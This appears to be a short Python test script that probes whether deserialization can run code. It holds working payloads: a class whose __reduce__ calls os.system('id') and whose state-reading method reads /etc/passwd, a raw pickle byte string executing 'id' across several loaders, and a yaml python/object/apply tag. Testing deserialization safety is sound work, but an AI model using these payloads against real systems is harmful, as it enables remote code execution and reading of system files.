# Has objects loaded that call programs.
class Evil:
    def __reduce__(self): return (__import__("os").system, ("id",))
    def __reduce_ex__(self, protocol): return self.__reduce__()
    def __getstate__(self): return open("/etc/passwd").read()
import copy
for f in (lambda: copy.copy(Evil()), lambda: copy.deepcopy([Evil()])):
    try:
        print(f())
    except BaseException as e:
        print(type(e).__name__, e)
for module in ("pickle", "marshal", "shelve", "dill", "joblib", "yaml", "_pickle"):
    try:
        m = __import__(module)
        print(m.loads(b"cos\nsystem\n(S'id'\ntR."))
    except BaseException as e:
        print(type(e).__name__, e)
import pickle, yaml
print(pickle.loads(b"cos\nsystem\n(S'id'\ntR."), yaml.load("!!python/object/apply:os.system [id]"))
